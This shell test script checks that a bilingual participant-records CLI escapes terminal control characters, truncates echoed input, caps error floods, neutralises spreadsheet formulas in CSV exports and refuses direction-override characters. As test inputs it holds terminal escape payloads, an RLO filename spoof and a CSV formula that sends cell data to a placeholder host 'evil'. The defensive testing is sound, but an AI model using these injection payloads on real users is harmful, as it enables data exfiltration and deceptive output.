# Output that cannot attack the reader: control characters escaped in text
# output and messages, echoed input cut, problem floods counted, CSV cells
# guarded against spreadsheet formulas (read back with python3's csv module),
# hidden characters refused in names, conflicting format options refused.
. "$SRC/tests/cli/lib.sh"

ESC=$(printf '\033')
# no_esc FILE: the file holds no raw ESC, CSI (C1, as UTF-8 or a lone byte) or BEL
no_esc() {
	if LC_ALL=C grep -q "$(printf '[\033\007\233]')" "$1" || grep -q "$(printf '\302\233')" "$1"; then
		bad "$1 holds a raw control character"
		cat -v "$1" | head -5 >&2
	else ok; fi
}
csv_cell() { # csv_cell FILE ROW COLUMN_NAME: one cell as python's csv reader sees it
	python3 - "$@" <<'EOF'
import csv, sys
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    rows = list(csv.DictReader(f))
print(rows[int(sys.argv[2])][sys.argv[3]], end='')
EOF
}

expect 0 init
intake Côté Élisabeth 1985-03-02
A=$(cat "$T/out")

# ---- messages that echo input are escaped
expect 1 submit profile "$A" --set "zz${ESC}[2Jzz=3"
has "$T/err" 'zz\u001B[2Jzz: champ inconnu'
no_esc "$T/err"
expect 2 show "--x${ESC}]0;pwned$(printf '\007')"
has "$T/err" '--x\u001B]0;pwned\u0007'
no_esc "$T/err"
expect 2 show "$A" "$(printf 'x\233')31m"
has "$T/err" 'x\x9B31m'
no_esc "$T/err"
# a key of --json with a line break cannot forge a second "FIELD: message" line
printf '{"a\\nfamily_name: ok": 1}' >"$T/nl.json"
expect 1 submit profile "$A" --json "$T/nl.json"
has "$T/err" 'a\u000Afamily_name: ok: champ inconnu'
same "$(wc -l <"$T/err")" 1 "(one problem, one line)"

# forms check quotes the YAML it reads, and a file location is never cut
name=$(printf 'f%.0s' $(seq 1 80))
printf 'form: zz\nversion: 1\n"\\e[2Jbad": 1\n' >"$T/$name.yaml"
expect 3 forms check "$T/$name.yaml"
has "$T/err" "$name.yaml:3:1: clé inconnue « \u001B[2Jbad »"
no_esc "$T/err"
(cd "$T" && "$PARCOURS_BIN" forms check "$name.yaml" 2>"$T/err")
has "$T/err" "$name.yaml:3:1: "

# ---- long echoed input is cut with an ellipsis
long=$(printf 'k%.0s' $(seq 1 5000))
expect 1 submit profile "$A" --set "$long=1"
has "$T/err" "$(printf 'k%.0s' $(seq 1 59))…: champ inconnu"
hasnt "$T/err" "$(printf 'k%.0s' $(seq 1 61))"
expect 1 submit profile "$A" --set "barriers=$(printf 'é%.0s' $(seq 1 300))"
has "$T/err" "« $(printf 'é%.0s' $(seq 1 59))… »"
hasnt "$T/err" "$(printf 'é%.0s' $(seq 1 61))"
expect 2 show "$A" "--$long"
[ "$(head -1 "$T/err" | wc -m)" -lt 300 ] && ok || bad "a usage message echoes 5000 characters"

# ---- a flood of problems stops after 20 with a count, plural in both languages
python3 -c 'import json; print(json.dumps({"zz%d" % i: 1 for i in range(500)}))' >"$T/flood.json"
expect 1 submit profile "$A" --json "$T/flood.json"
same "$(wc -l <"$T/err")" 21
same "$(grep -c ': champ inconnu$' "$T/err")" 20
has "$T/err" "parcours: … et 480 autres problèmes"
expect 1 --lang en submit profile "$A" --json "$T/flood.json"
has "$T/err" "parcours: … and 480 more problems"
python3 -c 'import json; print(json.dumps({"zz%d" % i: 1 for i in range(21)}))' >"$T/flood.json"
expect 1 submit profile "$A" --json "$T/flood.json"
has "$T/err" "parcours: … et 1 autre problème"
expect 1 --lang en submit profile "$A" --json "$T/flood.json"
has "$T/err" "parcours: … and 1 more problem"
python3 -c 'import json; print(json.dumps({"zz%d" % i: 1 for i in range(20)}))' >"$T/flood.json"
expect 1 submit profile "$A" --json "$T/flood.json"
same "$(wc -l <"$T/err")" 20
hasnt "$T/err" "autre"

# ---- stored text is shown, never obeyed: find, show, report
expect 0 enrol "$A" paas_action --start 2026-01-15 --ramp 20,40,60
expect 0 submit participation "$A" --period 2026-02 \
	--set entries.1.date=2026-02-03 --set entries.1.activity=work --set entries.1.hours=3
sql "UPDATE participant SET family_name = 'Co' || char(27) || '[2J' || char(9) || 'te',
     given_name = 'E' || char(155) || char(8238) || 'l' WHERE file_no = '$A'"
expect 0 participant find cote
has "$T/out" "$A	Co\u001B[2J\u0009te	E\u009B\u202El	1985-03-02"
same "$(awk -F'\t' '{print NF}' "$T/out")" 5 "(five tab-separated columns)"
no_esc "$T/out"
expect 0 show "$A"
has "$T/out" 'Co\u001B[2J\u0009te, E\u009B\u202El'
no_esc "$T/out"
expect 0 show "$A" --json
has "$T/out" '"family_name":"Co\u001b[2J\tte"'
expect 0 report month 2026-03
has "$T/out" 'Co\u001B[2J\u0009te'
no_esc "$T/out"
expect 0 report below 2026-02
has "$T/out" 'Co\u001B[2J\u0009te'
no_esc "$T/out"
# labels come from the forms folder, which an administrator edits
mkdir "$T/forms" && cp "$SRC"/forms/*.yaml "$T/forms/"
cat >"$T/forms/ledger.yaml" <<'EOF'
form: ledger
version: 1
order: 90
title: {fr: "Grand livre", en: "Ledger"}
period: none
sections:
  - title: {fr: "Sommes", en: "Amounts"}
    fields:
      - name: amount
        type: decimal
        label: {fr: "Montant", en: "Amount"}
      - name: count
        type: integer
        label: {fr: "Nombre", en: "Count"}
      - name: memo
        type: text
        label: {fr: "\e[31mMémo", en: "\e[31mMemo"}
      - name: notes
        type: textarea
        label: {fr: "Notes", en: "Notes"}
EOF
expect 0 --forms "$T/forms" submit ledger "$A" --set amount=-12,50 --set count=-3 \
	--set memo==1+1 --set notes="$(printf 'ligne 1\nligne 2')"
expect 0 --forms "$T/forms" show "$A"
has "$T/out" '  \u001B[31mMémo : =1+1'
has "$T/out" "  Notes : ligne 1"
has "$T/out" "ligne 2" # a text area keeps its lines
no_esc "$T/out"

# ---- CSV: text cells that a spreadsheet would run get an apostrophe
intake '=HYPERLINK("http://evil/?"&A1)' '+Ana' 1990-01-01
B=$(cat "$T/out")
intake '@SUM(A1:A9)' '-Luc' 1990-01-01
C=$(cat "$T/out")
expect 0 export intake
cp "$T/out" "$T/intake.csv"
same "$(csv_cell "$T/intake.csv" 1 family_name)" "'=HYPERLINK(\"http://evil/?\"&A1)"
same "$(csv_cell "$T/intake.csv" 1 given_name)" "'+Ana"
same "$(csv_cell "$T/intake.csv" 2 family_name)" "'@SUM(A1:A9)"
same "$(csv_cell "$T/intake.csv" 2 given_name)" "'-Luc"
same "$(csv_cell "$T/intake.csv" 0 birth_date)" "1985-03-02"
expect 0 export intake --raw
cp "$T/out" "$T/raw.csv"
same "$(csv_cell "$T/raw.csv" 1 family_name)" "=HYPERLINK(\"http://evil/?\"&A1)"
same "$(csv_cell "$T/raw.csv" 2 given_name)" "-Luc"
# numbers stay numbers: a negative decimal or integer is not text
expect 0 --forms "$T/forms" export ledger
cp "$T/out" "$T/ledger.csv"
same "$(csv_cell "$T/ledger.csv" 0 amount)" "-12.5"
same "$(csv_cell "$T/ledger.csv" 0 count)" "-3"
same "$(csv_cell "$T/ledger.csv" 0 memo)" "'=1+1"
# the same rule in reports
expect 0 enrol "$B" paas_action --start 2026-01-15
expect 0 enrol "$C" paas_action --start 2026-01-15
expect 0 report month 2026-03 --csv
cp "$T/out" "$T/month.csv"
rows=$(python3 -c 'import csv,sys; r=list(csv.DictReader(open(sys.argv[1]))); print(" ".join(x["family_name"]+"|"+x["given_name"] for x in r if x["file_no"]!="TOTAL"))' "$T/month.csv")
case "$rows" in *"'=HYPERLINK(\"http://evil/?\"&A1)|'+Ana"*"'@SUM(A1:A9)|'-Luc"*) ok ;; *) bad "report CSV cells: $rows" ;; esac
expect 0 report month 2026-03 --csv --raw
has "$T/out" '"=HYPERLINK(""http://evil/?""&A1)",+Ana'

# ---- conflicting or meaningless format options are usage errors
expect 2 export intake --csv --json
has "$T/err" "--csv et --json"
expect 2 export intake --json --csv
expect 2 export intake --json --raw
has "$T/err" "--raw"
expect 0 export intake --csv --csv
expect 2 report month 2026-03 --csv --json
has "$T/err" "--csv et --json"
expect 2 report year 2026 --json --csv
expect 2 report month 2026-03 --raw
expect 2 report month 2026-03 --json --raw
expect 0 show "$A" --json --json

# ---- names and text refuse direction overrides and zero-width characters
RLO=$(printf '\342\200\256') ZWSP=$(printf '\342\200\213') ZWNJ=$(printf '\342\200\214')
intake "Gnp${RLO}exe.txt" Ana 1990-01-01
same "$rc" 1
has "$T/err" "family_name: les caractères d'inversion de direction et de largeur nulle ne sont pas permis"
intake Côté "Jo${ZWSP}hn" 1990-01-01 --lang en
same "$rc" 1
has "$T/err" "given_name: direction overrides and zero-width characters are not allowed"
intake "Tremblay" "Ana" 1990-01-01 --set "address=rue ${RLO}1"
same "$rc" 1
has "$T/err" "address: "
intake "Rezaei" "می${ZWNJ}خواهم" 1990-01-01 # Persian needs its non-joiner
same "$rc" 0
expect 1 --forms "$T/forms" submit ledger "$A" --set "notes=a${RLO}b"
has "$T/err" "notes: les caractères d'inversion"
finish
